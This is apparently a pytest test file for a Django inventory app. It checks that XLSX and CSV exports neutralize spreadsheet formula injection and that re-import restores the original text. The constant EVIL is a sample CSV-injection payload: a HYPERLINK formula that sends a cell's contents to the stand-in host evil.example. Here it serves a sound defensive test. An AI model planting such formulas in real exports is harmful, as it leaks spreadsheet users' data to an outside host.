"""Exports never carry a formula a spreadsheet would run; re-import gives back the same text."""

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from simpatik.core.cells import neutralize, restore
from simpatik.inventory import importing, services
from simpatik.inventory.models import Application

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Klik")'


@pytest.mark.parametrize(
    "text",
    [EVIL, "+62 812", "-5 tahun", "@SUM(A1)", "\tx", "\rx", "'=x", "''-x", "'biasa", "biasa"],
)
def test_every_text_round_trips_and_no_written_text_starts_a_formula(text):
    written = neutralize(text)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore(written) == text


@pytest.fixture
def evil_app(inventory, kasie):
    app = inventory["LAPOR"]
    return services.update_application(
        app,
        actor=kasie,
        changes={"nama": EVIL, "deskripsi": "-1+1", "publik": True, "kategori": "publik"},
    )


def test_the_xlsx_export_holds_the_formula_as_plain_text(evil_app, kasie):
    client = Client()
    client.force_login(kasie)
    response = client.get("/inventaris/ekspor.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if "HYPERLINK" in str(cell.value)]
    assert len(cells) == 1
    assert cells[0].data_type == "s" and cells[0].value == "'" + EVIL
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("url", ["/inventaris/ekspor.csv", "/katalog/data.csv"])
def test_csv_exports_start_such_fields_with_a_quote(evil_app, kasie, url):
    client = Client()
    client.force_login(kasie)
    text = client.get(url).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + EVIL in cells and "'-1+1" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_export_with_formula_text_reimports_as_unchanged(evil_app, kasie, inventory, fmt):
    client = Client()
    client.force_login(kasie)
    content = client.get(f"/inventaris/ekspor.{fmt}").content
    preview = importing.plan(f"ekspor.{fmt}", content)
    assert preview.counts == {"new": 0, "update": 0, "unchanged": len(inventory), "error": 0}
    assert Application.objects.filter(nama=EVIL).count() == 1
